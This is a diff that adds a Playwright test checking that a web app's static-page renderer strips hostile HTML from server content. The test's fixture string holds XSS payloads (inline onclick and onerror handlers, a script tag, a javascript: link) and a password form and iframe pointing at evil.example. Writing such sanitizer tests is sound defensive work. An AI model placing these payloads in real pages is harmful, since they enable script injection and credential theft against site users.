@@ -200,6 +200,28 @@ test(
   },
 )
 
+test(
+  'whatever a server sends as the text of a page is drawn as text: no script, no handler, no form, no style and no unsafe link of it [STATIC-12 O-65]',
+  { tag: '@phone' },
+  async ({ page, context, mayPrint }) => {
+    mayPrint(/violates the following Content Security Policy directive .* \/assets\/purify-/) // as the cleaner reads it
+    const content =
+      '<h2 id="root" onclick="bad()">Rules</h2><script>bad()</script><p style="position:fixed">Play fair.</p>' +
+      '<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>' +
+      '<img src="/favicon.svg" onerror="bad()"><a href="javascript:bad()">Further</a><a href="/faq">Questions</a>'
+    const json = { slug: 'rules', title: 'Rules', content, updated_at: '2026-02-01T00:00:00Z' }
+    await context.route('**/api/v1/static-page/rules?*', (route) => route.fulfill({ json }))
+    await page.goto('/rules')
+    await expect(main(page).getByText('Play fair.')).toBeVisible()
+    await expect(
+      main(page).locator('script, form, input, iframe, [onclick], [onerror], [style*="position"]'),
+    ).toHaveCount(0)
+    await expect(main(page).getByText('Further')).not.toHaveAttribute('href')
+    await main(page).getByRole('link', { name: 'Questions' }).click()
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('FAQ')
+  },
+)
+
 for (const language of ['en', 'ru', 'kk', 'az'] as const) {
   test(
     `every static page has its text in ${language}, and only what it may hold [STATIC-01 STATIC-12 API-61]`,
